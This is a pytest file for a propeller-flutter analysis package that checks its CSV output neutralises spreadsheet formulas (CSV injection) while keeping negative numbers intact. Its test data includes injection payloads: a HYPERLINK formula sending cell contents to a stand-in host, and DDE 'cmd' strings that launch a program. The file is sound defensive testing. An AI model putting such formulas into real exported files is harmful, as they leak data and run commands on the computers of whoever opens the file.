"""Issue 33, item 5: spreadsheet formulas in the CSV files propwhirl writes (CSV injection).

A text cell starting with ``= + - @``, a tab or a carriage return is written with a leading
single quote (OWASP's neutralisation), in every CSV propwhirl writes (all go through
``fileio.csv_writer``); numbers — negative ones included, given as numbers or as their text —
are written as they are; the tables propwhirl reads back (the V-g-f table, the critical map)
read every text back exactly."""
from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from propwhirl import fileio

SRC = Path(__file__).resolve().parents[1] / "src" / "propwhirl"

#: the issue's case names, and more cells a spreadsheet would evaluate
FORMULAS = ['=HYPERLINK("http://x.example/?q="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+1", "-1+1", "=1+1", "\t=1+1", "\r=1+1", "-", "+", "@", "=", "-cmd|' /C calc'!A0"]
NUMBERS = ["-1.5", "-1e-05", "+2", "-0", "-.5", "12", "1e+300", "-3.25E-7"]


def _evaluated(cell: str) -> bool:
    """Whether a spreadsheet would read `cell` as a formula (OWASP's list of first
    characters), a plain number excepted."""
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r") and re.fullmatch(
        r"[+-]?(?:[0-9]+\.?[0-9]*|\.[0-9]+)(?:[eE][+-]?[0-9]+)?", cell) is None


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_cell_is_neutralised_and_reads_back(text):
    cell = fileio.csv_cell(text)
    assert cell == "'" + text and not _evaluated(cell)
    assert fileio.csv_text(cell) == text


@pytest.mark.parametrize("number", NUMBERS)
def test_a_number_stays_a_number(number):
    assert fileio.csv_cell(number) == number
    assert fileio.csv_cell(float(number)) == float(number)


@settings(max_examples=300, deadline=None, derandomize=True)
@given(text=st.text(max_size=12) | st.sampled_from(FORMULAS + NUMBERS + ["'", "''=", "'-1",
                                                                       "a\r=1+1", "\r"]))
def test_every_text_is_written_safe_and_read_back_exactly(text):
    buf = io.StringIO()
    fileio.csv_writer(buf, lineterminator="\n").writerow([text, -1.5])
    (row,) = list(csv.reader(io.StringIO(buf.getvalue(), newline="")))  # one row: a CR quoted
    assert not _evaluated(row[0]) and row[1] == "-1.5"
    assert fileio.csv_text(row[0]) == text


def test_every_csv_writer_of_propwhirl_is_the_neutralising_one():
    """No module writes CSV past fileio.csv_writer (which csv_table uses too)."""
    found = [f"{p.relative_to(SRC)}:{i}" for p in sorted(SRC.rglob("*.py")) if p.name != "fileio.py"
             for i, line in enumerate(p.read_text().splitlines(), 1)
             if re.search(r"\bcsv\.(writer|DictWriter)\(", line)]
    assert found == []


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_the_campaign_csv_neutralises_case_names_and_keeps_negative_margins():
    from propwhirl.studies.campaign import Case
    from propwhirl.studies.campaign_result import CampaignResult, PointRow

    rows = []
    for name in FORMULAS[:4]:
        Case(name)                                     # a name the campaign accepts
        rows.append(PointRow(
            name, f"{name} described", 0.0, "EAS", 100.0, 100.0, False, 115.0, False,
            f"{name}: flutter at 101.50 m/s <= 115.00 m/s", 101.5, -13.5, -11.739, "flutter",
            "onset", "-forward 1", 7.0, "backward", ((1, 0.5, "backward"),), 351.0, -0.01,
            100.0, "=wing 1", -0.01, "wing 1", -0.02, -1.5e-4, "wing 1", ""))
    text = CampaignResult("=c", "@wing", "cs25", 1.15, None, "propwhirl", tuple(rows), 4).to_csv()
    table = _rows(text)
    assert not [c for r in table for c in r if _evaluated(c)]
    head = table[0]
    assert [r[head.index("case")] for r in table[1:]] == ["'" + n for n in FORMULAS[:4]]
    for r in table[1:]:
        assert r[head.index("margin_m_per_s")] == "-13.5"
        assert r[head.index("dzeta_dV_at_required")] == "-0.00015"
        assert r[head.index("least_g")] == "-0.01" and r[head.index("g_at_required")] == "-0.02"


def test_a_vgf_label_and_a_critical_map_text_read_back_exactly(tmp_path):
    from propwhirl.analysis import analyse
    from propwhirl.cases.ch09_baseline import isolated_baseline_propeller
    from propwhirl.io.results import read_vgf_csv, write_vgf_csv
    from propwhirl.studies.sweeps import RESULT_UNITS, Axis, CriticalMap

    a = analyse(isolated_baseline_propeller(), np.arange(1.0, 351.0, 50.0))
    table = a.sweep.table()
    table["label"] = np.array(["=" + str(x) for x in table["label"]], dtype=object)

    class Renamed:
        def table(self):
            return table

    write_vgf_csv(Renamed(), tmp_path / "v.csv")
    assert not [c for r in _rows((tmp_path / "v.csv").read_text()) for c in r if _evaluated(c)]
    back = read_vgf_csv(tmp_path / "v.csv")
    assert list(back["label"]) == list(table["label"])
    assert np.array_equal(back["real"], table["real"])            # negative numbers: numbers

    axes = (Axis("propellers[0].propeller.f_theta", np.array([-2.0, 7.0]), "Hz"),)
    cols = {k: np.zeros(2) for k in RESULT_UNITS}
    cols.update(propeller=np.zeros(2, int), critical_speed=np.array([-1.5, 120.0]),
                kind=np.array(["flutter", "error"], dtype=object),
                critical_mode=np.array(["-forward 1", "@wing 1"], dtype=object),
                error=np.array(["", "=HYPERLINK(1)"], dtype=object))
    text = CriticalMap("m", axes, cols).to_csv()
    assert not [c for r in _rows(text) for c in r if _evaluated(c)]
    m = CriticalMap.from_csv(text)
    assert list(m.columns["critical_mode"]) == ["-forward 1", "@wing 1"]
    assert list(m.columns["error"]) == ["", "=HYPERLINK(1)"]
    assert list(m.critical_speed) == [-1.5, 120.0] and list(m.axes[0].values) == [-2.0, 7.0]
